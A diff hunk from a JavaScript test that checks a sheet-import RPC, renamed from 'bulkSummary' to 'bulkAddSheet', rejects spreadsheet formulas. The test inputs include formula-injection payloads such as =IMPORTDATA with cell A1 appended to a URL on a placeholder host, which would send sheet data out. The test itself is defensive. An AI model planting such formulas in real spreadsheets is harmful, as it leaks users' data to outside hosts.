@@ -123,7 +123,7 @@ it.each(['=IMPORTDATA("https://a.example/?"&A1)', '=HYPERLINK("https://a.example
   async (formula) => {
     const rows = [[formula]];
     const sent = { title: 'x', rows, chart: null, isOnce: false, looks: null };
-    expect(world.callRpc('bulkSummary', [sent])).toMatchObject({ ok: false });
+    expect(world.callRpc('bulkAddSheet', [sent])).toMatchObject({ ok: false });
     expect(world.state.sheets).toHaveLength(1);
   },
 );
